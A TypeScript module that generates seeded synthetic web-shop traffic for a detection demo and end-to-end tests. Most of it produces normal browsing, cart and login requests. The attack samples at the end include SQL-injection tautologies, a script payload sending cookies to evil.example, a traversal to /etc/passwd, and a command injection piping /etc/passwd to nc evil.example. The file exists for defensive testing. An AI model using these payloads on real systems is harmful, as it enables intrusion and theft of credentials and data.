/**
 * A small web shop's traffic, generated and seeded, for the demo and the
 * end-to-end tests: a handful of endpoints with realistic parameters (catalogue
 * browsing, product pages, search, cart, login), clients from a pool of
 * addresses, and SQL-injection attacks with variants that differ in their
 * harmless parts.
 *
 * Everything is deterministic for a given seed (node/prng.ts), so a failing
 * run can be replayed.
 */
import { createPrng } from '../core/index.js'
import type { Prng } from '../core/index.js'
import type { ObserveRequest } from '../node/sensors/index.js'

/** One request to the shop, as a client sends it (query and body raw, form-encoded). */
export interface ShopRequest {
  method: 'GET' | 'POST'
  path: string
  /** Raw query string without '?' ('' when none). */
  query: string
  /** Raw form body ('' when none). */
  body: string
  /** Client address (the demo sends it as X-Forwarded-For; the tests as the observation's source). */
  source: string
  userAgent: string
}



const CATEGORIES = ['books', 'toys', 'garden', 'kitchen', 'music', 'sports', 'shoes']
const SORTS = ['price', 'name', 'rating', 'newest']
const WORDS = [
  'red', 'blue', 'green', 'wool', 'cotton', 'scarf', 'lamp', 'chair', 'table', 'mug', 'teapot', 'guitar', 'piano',
  'novel', 'cookbook', 'puzzle', 'kite', 'boots', 'sneakers', 'jacket', 'garden', 'hose', 'rake', 'candle', 'vase',
  'ball', 'racket', 'tent', 'backpack', 'bottle', 'kettle', 'pan', 'knife', 'blanket', 'pillow', 'clock', 'radio'
]
/** The shop's registered customers (a small shop: its regulars log in again and again). */
const ACCOUNTS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar', 'peggy', 'trent', 'victor', 'walter']
  .flatMap((n, i) => [n, `${n}${(i * 37) % 90 + 10}`])
const USER_AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148'
]
const ALNUM = 'abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789'

/** Clients come from the documentation ranges (RFC 5737); attackers from 203.0.113.0/24. */
export const NORMAL_CLIENTS = 40

function pick<T> (prng: Prng, xs: readonly T[]): T {
  return xs[prng.nextInt(xs.length)]
}

function form (pairs: Array<[string, string]>): string {
  return new URLSearchParams(pairs).toString()
}

export interface ShopTraffic {
  /** The next normal request. */
  next: () => ShopRequest
  /** `n` normal requests. */
  take: (n: number) => ShopRequest[]
}

/**
 * Normal shop traffic for a seed. Different seeds give different requests
 * from the same distribution (each demo node sees its own customers).
 */
export function createShopTraffic (seed: number | string): ShopTraffic {
  const prng = createPrng(seed)
  const client = (): string => {
    const i = prng.nextInt(NORMAL_CLIENTS)
    return i < NORMAL_CLIENTS / 2 ? `192.0.2.${10 + i}` : `198.51.100.${10 + i}`
  }
  const password = (): string => {
    const n = 8 + prng.nextInt(7)
    let s = ''
    for (let i = 0; i < n; i++) s += ALNUM[prng.nextInt(ALNUM.length)]
    return s
  }
  const next = (): ShopRequest => {
    const source = client()
    const userAgent = pick(prng, USER_AGENTS)
    const base = { source, userAgent, query: '', body: '' }
    const r = prng.next()
    if (r < 0.08) return { ...base, method: 'GET', path: '/' }
    if (r < 0.30) {
      const pairs: Array<[string, string]> = [['category', pick(prng, CATEGORIES)]]
      if (prng.next() < 0.6) pairs.push(['page', String(1 + prng.nextInt(6))])
      if (prng.next() < 0.5) pairs.push(['sort', pick(prng, SORTS)])
      return { ...base, method: 'GET', path: '/products', query: form(pairs) }
    }
    if (r < 0.55) return { ...base, method: 'GET', path: '/product', query: form([['id', String(1 + prng.nextInt(480))]]) }
    if (r < 0.70) {
      const n = 1 + prng.nextInt(2)
      const q: string[] = []
      for (let i = 0; i < n; i++) q.push(pick(prng, WORDS))
      return { ...base, method: 'GET', path: '/search', query: form([['q', q.join(' ')]]) }
    }
    if (r < 0.85) return { ...base, method: 'POST', path: '/cart', body: form([['product', String(1 + prng.nextInt(480))], ['qty', String(1 + prng.nextInt(4))]]) }
    return { ...base, method: 'POST', path: '/login', body: form([['user', pick(prng, ACCOUNTS)], ['password', password()]]) }
  }
  return {
    next,
    take: (n) => Array.from({ length: n }, next)
  }
}

/**
 * SQL-injection attacks on the product page's `id` parameter: variants of one
 * tautology that differ only in harmless parts (the number, a trailing
 * comment), so a signature learned from one variant catches the others: what
 * a real scanner does when it retries.
 */
export const SQLI_TAUTOLOGY = [
  "1' OR '1'='1",
  "7' OR '1'='1",
  "42' OR '1'='1",
  "99' OR '1'='1' --",
  "5' OR '1'='1' #"
]

/** An attack request on GET /product?id=... from `source`. */
export function sqlInjection (payload: string, source: string): ShopRequest {
  return { method: 'GET', path: '/product', query: form([['id', payload]]), body: '', source, userAgent: 'sqlmap/1.8.4#stable (https://sqlmap.org)' }
}

/** The request as the node's ingest API takes it. */
export function toObservation (r: ShopRequest): ObserveRequest {
  const headers: Record<string, string> = { 'user-agent': r.userAgent }
  if (r.method === 'POST') headers['content-type'] = 'application/x-www-form-urlencoded'
  return { kind: 'http', method: r.method, path: r.path, query: r.query, body: r.body, headers, source: r.source }
}

/** One attack per shop endpoint (other than the product page), for attack episodes on distinct contexts. */
export const OTHER_ATTACKS: ReadonlyArray<{ name: string, request: (source: string) => ShopRequest }> = [
  {
    name: 'cross-site scripting in the search box',
    request: (source) => ({ method: 'GET', path: '/search', query: form([['q', '<script>document.location="http://evil.example/?c="+document.cookie</script>']]), body: '', source, userAgent: USER_AGENTS[0] })
  },
  {
    name: 'path traversal in the catalogue category',
    request: (source) => ({ method: 'GET', path: '/products', query: form([['category', '../../../../etc/passwd'], ['page', '1']]), body: '', source, userAgent: USER_AGENTS[1] })
  },
  {
    name: 'SQL injection in the login form',
    request: (source) => ({ method: 'POST', path: '/login', query: '', body: form([['user', "admin' OR 1=1 LIMIT 1 --"], ['password', 'x']]), source, userAgent: USER_AGENTS[2] })
  },
  {
    name: 'command injection in the cart quantity',
    request: (source) => ({ method: 'POST', path: '/cart', query: '', body: form([['product', '12'], ['qty', '1; cat /etc/passwd | nc evil.example 4444']]), source, userAgent: USER_AGENTS[3] })
  }
]
